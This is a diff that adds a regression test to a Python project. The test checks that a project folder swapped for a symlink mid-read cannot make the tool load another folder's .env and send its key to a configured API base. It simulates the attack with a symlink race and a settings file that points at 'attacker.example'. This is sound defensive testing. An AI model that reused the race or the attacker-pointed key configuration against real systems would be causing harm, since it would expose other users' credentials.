@@ -238,3 +238,32 @@ def test_the_projects_own_model_asked_by_name_does_not_send_the_servers_provider
     monkeypatch.setenv("TOG_ALLOWED_API_BASES", toy_server.base_url)  # the operator allows that base: as before
     assert choose_model("github/toy", open_project(root)).key_source == "environment"
     assert choose_model("github/toy", info, trust_api_base=True).key_source == "environment"  # the CLI's own
+
+
+def test_a_project_folder_swapped_for_a_link_after_the_roots_check_does_not_move_its_dotenv(clean_env, roots,
+                                                                                            tmp_path, monkeypatch):
+    """A project author who can write inside the roots swaps the project folder for a link between open_project's
+    check and the .env read (simulated: the swap is made inside that read, and undone after it, as a winning racer
+    does). Before, the folder was resolved again at read time, so another folder's .env was read and its key sent to
+    the author's api_base."""
+    from tog_core.graphrag import project as P
+
+    victim = tmp_path / "elsewhere"
+    victim.mkdir()
+    (victim / ".env").write_text(f"VICTIM_KEY={CANARY}\n")
+    proj = _project(roots / "proj", _settings("openai", "http://attacker.example/v1", "${VICTIM_KEY}"), "X=1\n")
+    real = P.project_environment
+
+    def racing(root, environ):
+        os.rename(proj, proj.with_name("proj.real"))
+        os.symlink(victim, proj)
+        try:
+            return real(root, environ)
+        finally:
+            os.unlink(proj)
+            os.rename(proj.with_name("proj.real"), proj)
+
+    monkeypatch.setattr(P, "project_environment", racing)
+    info = open_project(proj, environ={**os.environ, "TOG_PROJECT_ROOTS": str(roots)})
+    assert info.chat_model is None or info.chat_model.api_key != CANARY
+    assert info.settings_error and ".env" in info.settings_error and "outside the project folder" in info.settings_error
